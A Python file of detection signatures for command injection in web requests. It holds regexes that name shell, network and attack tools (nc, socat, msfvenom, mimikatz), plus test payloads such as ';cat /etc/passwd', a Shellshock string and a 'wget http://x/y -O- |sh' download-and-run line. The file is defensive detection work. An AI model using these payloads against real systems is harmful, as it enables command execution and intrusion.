"""Commands of shells, to be run."""

from pipeline.signatures.signature import ARGS, PAYLOAD, Example, Signature

COMMANDS = (
    r"id|ls|ps|w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|"
    r"wget|curl|fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|"
    r"zsh|ksh|csh|tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|"
    r"chown|chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
    r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
    r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
    r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
    r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
    r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
    r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
    r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
    r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
    r"lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|"
    r"setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|"
    r"arpspoof|responder|john|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
    r"dpkg|rpm|snap|flatpak|pacman|zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|"
    r"ansible-playbook|terraform|vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|"
    r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
    r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
    r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
    r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet"
)
# those that are no words of English
STRICT = (
    r"whoami|uname|pwd|tac|printenv|echo|printf|wget|curl|lynx|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|"
    r"socat|bash|zsh|ksh|csh|tcsh|busybox|gcc|chmod|chown|chattr|mv|rm|rmdir|mkdir|ln|tar|gzip|gunzip|"
    r"bzip2|unzip|7z|base64|xxd|hexdump|grep|egrep|awk|gawk|sed|uniq|tr|xargs|whereis|pkill|killall|"
    r"nohup|crontab|systemctl|umount|df|du|lastlog|ifconfig|netstat|arp|traceroute|nslookup|dig|"
    r"dnsdomainname|useradd|userdel|adduser|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|npm|kubectl|"
    r"mysql|psql|sqlite3|redis-cli|openssl|gpg|vi|vim|nano|emacs|getent|sendmail|insmod|lsmod|dmesg|"
    r"sysctl|iptables|tcpdump|nmap|timeout|bsdtar|ansible|jjs|rlwrap|tmux|ash|lsof|lsb_release|lscpu|"
    r"lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|"
    r"ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|hashcat|"
    r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|flatpak|pacman|zypper|"
    r"pipx|pnpm|npx|ansible-playbook|terraform|virsh|lxc|lxd|podman|ctr|crictl|rclone|s3cmd|gcloud|"
    r"gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|"
    r"zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|csplit|fmt|tsort|cmp|sdiff|"
    r"vimdiff|basenc|base32|openvpn|stunnel|proxychains|torify|iconv|recode|jq|yq|xmllint|xmlstarlet|"
    r"ls|cat|ping|perl|php|python[23]?|telnet|passwd"
)

SHELL = (
    Signature(
        id="rce-unix-chain",
        family="rce",
        title="A UNIX command behind a separator of the shell",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.004"),
        where=("args", "path", "referer", "header"),
        pattern=(
            r"(?:[;|`{]|&&|\|\||\$\(|<\(|>\(|\n)\s*(?:[\w$]*/(?:usr/)?(?:local/)?s?bin/)?(?:"
            + COMMANDS
            + (
                r")(?:\s+[-/\w.'\"$~<>*|;&]|\s*[;|`)}<>]|\$ifs|\s*$|&)|&\s*(?:nslookup|ping|wget|curl|sleep|"
                r"whoami|cat|uname|telnet|tftp) [\w.-]+"
            )
        ),
        positive=(
            "/i?ip=127.0.0.1;cat+/etc/passwd",
            "/i?x=%7Cid",
            "/i?x=$(whoami)",
            "/i?x=`id`",
            "/i?x=a%0acat%20/x",
            "/i?ip=1;c''at%20x",
            "/x/2-%26nslookup%20a%26'",
            "/i?x=;cat${IFS}x",
        ),
        negative=("/i?a=b;id=3", "/i?q=cats;dogs"),
        false_positives="texts with code in them",
        references=("https://owasp.org/www-community/attacks/Command_Injection",),
    ),
    Signature(
        id="rce-unix-command",
        family="rce",
        title="A UNIX command with what it is given",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=ARGS,
        pattern=(
            r"(?:=|^|[\s;|&(`'\"])(?:(?:/\w+)*/)?(?:cat|tac|head|tail|more|less|nl|ls|rm|chmod|cp|mv|wget|"
            r"curl|nc|ncat|bash|sh|dash|zsh|ksh|perl|python[\d.]*|ruby|php|touch|echo|uname|ping|find|tar|"
            r"base64|tftp|busybox) (?:-{1,2}[a-z0-9]+\b|[/~]\w*[/.]|https?://|[\w/.]*[*?]|[\w.]+\s*[|>]|\$\w)|"
            r"\b(?:wget|curl) (?:-\S+ )*(?:https?|ftp)://|\b(?:ba|z|k|da|c|a)?sh -[ci]\b|\bcat /\w+|\$shell\b|"
            r"\bnc -\w*[elp]\w*\s|/dev/(?:tcp|udp)/|\bchmod \+?[0-7x]|\brm -rf?\b|(?:^|"
            r"[\s=;/])(?:usr/)?s?bin/(?:" + COMMANDS + r")\b"
        ),
        plain=True,
        positive=("/i?x=cat+/etc/passwd", "/i?x=wget+http://x/y", "/i?x=/bin/sh+-c+id", "/i?a=bin/ansible"),
        negative=("/i?q=cat+food", "/i?q=ping+pong", "/i?q=curl+hair"),
        false_positives="questions about the shell in a search box",
    ),
    Signature(
        id="rce-unix-expansion",
        family="rce",
        title="A command or a variable put in by the shell",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=PAYLOAD,
        pattern=(
            r"\$\([^)]|\$\{?ifs\b|<\(\s*\w+|\(\)\s*\{|`[a-z]{2,}[^`&]*`|\$\{[#!]?(?:path|home|shell|pwd|user|"
            r"hostname)\b|\$\(\(|\$\["
        ),
        positive=("/i?x=$(cmd)", "/i?x=a${IFS}b", "/i?x=()+{+:;};+id"),
        negative=("/i?price=$5", "/i?a=(b)"),
        false_positives="code in a text",
        references=("https://nvd.nist.gov/vuln/detail/CVE-2014-6271",),
    ),
    Signature(
        id="rce-unix-hidden",
        family="rce",
        title="A command or path hidden by wildcards, quotes or backslashes of the shell",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=ARGS,
        pattern=(
            r"/\w*[?*\[][\w?*\[\]!^-]*/[\w?*\[\]]|\((?:ba|z|k|da|c|a)?sh\)|&&\s*\(\w+\)|/(?:e[t*?]+|b[i*?]+n?|"
            r"\?{2,})[*?]*/|[a-z]\\[a-z]+\s+/|\w''\w+\s|\w\"\"\w+\s|[a-z]\$[@*_!-]\w|[a-z]\$\$\w|\$\(\)\w|"
            r"\{,?\$?['\"]?[a-z]+['\"]?,[^}&]*\}|\{,\$?['\"]?[a-z]+['\"]?,?\}"
        ),
        positive=("/i?x=cat+/et*/*wd", "/i?x=ti''me+sh", "/i?x=%7b%2c%69%64%7d"),
        negative=("/i?a=b/*", "/i?q={a:1}"),
    ),
    Signature(
        id="rce-windows",
        family="rce",
        title="A Windows command, or PowerShell",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.003"),
        where=("url", *PAYLOAD),
        pattern=(
            r"\bcmd(?:\.exe)?[\s+?]*/[ckr]\b|\bpowershell(?:\.exe)?\b\s*[-/\"'(]|\bpwsh\b\s*-|"
            r"\bcertutil\b.*-(?:urlcache|decode)|\bbitsadmin\b.*/transfer|\bnet1?[ +](?:user|localgroup|share|"
            r"view|group)\b|\btype\s+[a-z]:[\\/]|\bdir\s+[a-z]:[\\/]|\bwmic\s+(?:process|os|useraccount)|"
            r"\brundll32\b|\bregsvr32\b|\bmshta\b|\b(?:invoke-\w+|iex[ (]|new-object|downloadstring|"
            r"downloadfile|start-process|get-content|write-output|-encodedcommand)\b\s*[\s('\"$-]|"
            r"\bcscript\b\s|\bsysteminfo\b|\bipconfig\b|\btasklist\b|%(?:comspec|systemroot|windir|"
            r"programfiles|userprofile|appdata)(?:%|:)|(?:[;|]\s*|&& ?|& )(?:dir|ver|type|copy|del|ren|"
            r"ping)\b\s*(?:[a-z]:|/|\\|-n|$|&)|(?:[;|`\n]\s*|&& ?|& |=)(?:arp|assoc|attrib|auditpol|bcdboot|"
            r"bcdedit|bitsadmin|bootcfg|cacls|certreq|certutil|chkdsk|cipher|clip|cmdkey|cmstp|csvde|defrag|"
            r"diskpart|diskshadow|dism|driverquery|dsquery|dsget|esentutl|eventcreate|extrac32|forfiles|"
            r"fsutil|ftype|getmac|gpresult|gpupdate|icacls|installutil|ipconfig|klist|logoff|makecab|"
            r"mavinject|mklink|msbuild|msconfig|msdt|mshta|msiexec|mstsc|nbtstat|netsh|nltest|nslookup|"
            r"odbcconf|pcalua|pktmon|pnputil|powercfg|qprocess|quser|qwinsta|regasm|regsvcs|regsvr32|robocopy|"
            r"rundll32|runas|schtasks|secedit|sfc|subst|systeminfo|takeown|taskkill|tasklist|tracert|typeperf|"
            r"vssadmin|w32tm|wbadmin|wecutil|wevtutil|winrm|winrs|wmic|wscript|cscript|wusa|xcopy|procdump|"
            r"psexec|pslist|pskill|psinfo|psloggedon|psservice|psgetsid|psfile|psshutdown|"
            r"mimikatz)(?:\.exe)?(?:[ ;|&/]|$)"
        ),
        plain=True,
        positive=("/i?x=cmd.exe+/c+dir", "/i?x=powershell+-enc+x", "/i?x=%26+net+user", "/scripts/cmd.exe?/c+dir"),
        negative=("/i?q=cmd",),
    ),
    Signature(
        id="rce-windows-batch",
        family="rce",
        title="FOR or IF of a Windows batch",
        severity="medium",
        confidence="medium",
        techniques=("T1190", "T1059.003"),
        where=ARGS,
        pattern=(
            r"\bfor (?:/[dflr] )*.*%.*\bin\b\s*\(.*\)?\s*\bdo\b|\bfor /[dflr] |\bfor\s+%.*\bin\s*\(|"
            r"\bif (?:/i )?(?:not )?(?:exist \S+|defined \S+|errorlevel \d|cmdextversion |"
            r"\(?[\"'%\[\w]*[%\"'\]\w]*\)?\s*(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))"
        ),
        plain=True,
        positive=("/i?x=FOR+%25a+IN+(set)+DO+abc", "/i?x=IF+EXIST+a.txt+ECHO+x", "/i?x=if+a==b+c"),
        negative=("/i?q=if+you+exist", "/i?q=for+sale+in+(london)"),
    ),
    Signature(
        id="rce-unix-word",
        family="rce",
        title="A value that begins like a command line",
        severity="low",
        confidence="low",
        techniques=("T1595.002", "T1059.004"),
        where=ARGS,
        pattern=(
            r"[=:](?:sudo |time |nohup |env |exec |nice |timeout \d+\w? |command |xargs |busybox |watch |"
            r"eval |builtin )+(?:"
            + COMMANDS
            + (
                r")\b(?: ?$| ?&| [^a-z]| \w+)|(?:^|[=;|&\n]) ?(?:whoami|uname|pwd|tac|printenv|echo|printf|wget|"
                r"curl|lynx|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|bash|zsh|ksh|csh|tcsh|busybox|gcc|chmod|"
                r"chown|chattr|mv|rm|rmdir|mkdir|ln|tar|gzip|gunzip|bzip2|unzip|7z|base64|xxd|hexdump|grep|egrep|"
                r"awk|gawk|sed|uniq|tr|xargs|whereis|pkill|killall|nohup|crontab|systemctl|umount|df|du|lastlog|"
                r"ifconfig|netstat|arp|traceroute|nslookup|dig|dnsdomainname|useradd|userdel|adduser|sudo|ssh|scp|"
                r"rsync|apt|apt-get|yum|dnf|apk|npm|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|vi|vim|nano|"
                r"emacs|getent|sendmail|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|timeout|bsdtar|ansible|"
                r"jjs|rlwrap|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|"
                r"capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|"
                r"tshark|ettercap|arpspoof|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
                r"dpkg|rpm|flatpak|pacman|zypper|pipx|pnpm|npx|ansible-playbook|terraform|virsh|lxc|lxd|podman|"
                r"ctr|crictl|rclone|s3cmd|gcloud|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|genisoimage|mkisofs|"
                r"zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|"
                r"tmpwatch|csplit|fmt|tsort|cmp|sdiff|vimdiff|basenc|base32|openvpn|stunnel|proxychains|torify|"
                r"iconv|recode|jq|yq|xmllint|xmlstarlet|ls|cat|ping|perl|php|python[23]?|telnet|passwd) (?:-|"
                r"[~/.*\"'$]|\w+ ?(?:\w+ ?)?(?:$|&)|\w+[.:/@]\w)|[;|]\s*(?:(?:/\w+)*/)?(?:id|ls|ps|w|who|whoami|"
                r"uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|fetch|lynx|"
                r"lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|tcsh|fish|"
                r"busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|"
                r"rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|"
                r"egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|"
                r"nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|"
                r"netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|dnsdomainname|useradd|userdel|"
                r"adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|pip3?|npm|git|docker|kubectl|mysql|"
                r"psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|source|export|alias|unset|trap|test|"
                r"expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|groups|getent|finger|mail|sendmail|"
                r"reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|watch|timeout|time|"
                r"nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|"
                r"lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|"
                r"msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|responder|john|hashcat|"
                r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|snap|flatpak|pacman|"
                r"zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|ansible-playbook|terraform|"
                r"vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|az|gsutil|ipfs|zstd|xz|"
                r"unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|"
                r"fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|"
                r"fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|"
                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)(?:\s+[-/.'\"(]|\s*[;|<>(]\s*)|& ?(?:id|ls|ps|"
                r"w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|"
                r"fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|"
                r"tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
                r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
                r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
                r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
                r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
                r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
                r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
                r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
                r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
                r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
                r"lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|"
                r"setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|"
                r"arpspoof|responder|john|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
                r"dpkg|rpm|snap|flatpak|pacman|zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|"
                r"ansible-playbook|terraform|vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|"
                r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
                r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
                r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
                r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet) ['\"(]|[;|]\s*(?:id|ls|ps|w|"
                r"who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|"
                r"fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|"
                r"tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
                r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
                r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
                r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
                r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
                r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
                r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
                r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
                r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
                r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
                r"lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|"
                r"setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|"
                r"arpspoof|responder|john|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
                r"dpkg|rpm|snap|flatpak|pacman|zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|"
                r"ansible-playbook|terraform|vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|"
                r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
                r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
                r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
                r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)\b(?:$|&)|[|;]\s*\w{1,3} \(|"
                r"\balias [-+]?[\w+-]* ?\w+ ?=|[=;\s](?:\$\w|\$\{\w+\})+\s+(?:id|ls|ps|w|who|whoami|uname|pwd|cat|"
                r"tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|fetch|lynx|lwp-\w+|aria2c|"
                r"tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|tcsh|fish|busybox|perl|"
                r"python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|rmdir|mkdir|"
                r"touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|egrep|awk|"
                r"gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|nohup|"
                r"crontab|at|service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|"
                r"netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|dnsdomainname|useradd|userdel|"
                r"adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|pip3?|npm|git|docker|kubectl|mysql|"
                r"psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|source|export|alias|unset|trap|test|"
                r"expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|groups|getent|finger|mail|sendmail|"
                r"reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|watch|timeout|time|"
                r"nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|"
                r"lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|"
                r"msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|responder|john|hashcat|"
                r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|snap|flatpak|pacman|"
                r"zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|ansible-playbook|terraform|"
                r"vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|az|gsutil|ipfs|zstd|xz|"
                r"unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|"
                r"fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|"
                r"fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|"
                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)\s|(?:^|[=\s])!(?:-?\d+|!|\?\w+\?)(?:$|&|!|\s|"
                r"-)"
            )
        ),
        plain=True,
        positive=("/?x=time+who", "/?x=ls+foo+bar", "/?x=!-1!-2", "/?rce=alias%20%2bm%20a=b", "/?x=time+bsdtar+"),
        negative=("/?q=time+warner", "/?q=find+me", "/?q=cat+food+for+old+cats"),
        false_positives="words of a search that are also commands",
    ),
    Signature(
        id="rce-sqlite-shell",
        family="rce",
        title="A command of SQLite's shell",
        severity="medium",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"(?:^|[;=\n\"'`]|\\n)\s*\. ?(?:archive|backup|bail|binary|cd|changes|check|clone|connection|"
            r"databases|dbconfig|dbinfo|dump|echo|eqp|excel|exit|expert|explain|filectrl|fullschema|headers|"
            r"import|imposter|indexes|limit|lint|load|log|mode|nonce|nullvalue|once|open|output|parameter|"
            r"print|progress|prompt|quit|read|recover|restore|save|scanstats|schema|selftest|separator|"
            r"session|sha3sum|shell|sh|show|stats|system|tables|testcase|testctrl|timeout|timer|trace|"
            r"unmodule|vfsinfo|vfslist|vfsname|width)\b(?:[ \n;]|$|&)"
        ),
        plain=True,
        positive=("/?x=1;.sh+whoami", "/?x=;\\n.databases"),
        negative=("/?f=a.log", "/?ext=.html"),
    ),
    Signature(
        id="rce-unix-tilde",
        family="rce",
        title="A tilde that a shell makes a directory",
        severity="low",
        confidence="medium",
        techniques=("T1595.002", "T1059.004"),
        where=("args",),
        pattern=r"=~(?:[+-]?\d*)(?:$|&|/|\s)",
        positive=("/?x=~0", "/?x=~+"),
        negative=("/?x=~user",),
    ),
    Signature(
        id="rce-unix-agent",
        family="rce",
        title="A UNIX command in a user agent",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.004"),
        where=("agent",),
        pattern=(
            r"\(\)\s*\{|[;|&`]\s*(?:/\w+)*/?(?:wget|curl|cat|bash|sh|nc|ping|echo|rm|chmod|perl|python\d?|php|"
            r"nslookup|sleep|uname|busybox|tftp|cd)\s+[-/h'\"$|>~\d]|[;|`]\s*(?:id|whoami|uname|pwd|ls)\s*[;|"
            r"`]|/bin/(?:ba|z|da)?sh\b|/dev/tcp/"
        ),
        positive=(Example(agent="() { :;}; /bin/bash -c id"), Example(agent="x;wget http://x/y -O- |sh")),
        negative=(
            Example(agent="Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0)"),
            Example(agent="Embedly/0.2; snap; +http://support.embed.ly/"),
        ),
        references=("https://nvd.nist.gov/vuln/detail/CVE-2014-6271",),
    ),
)
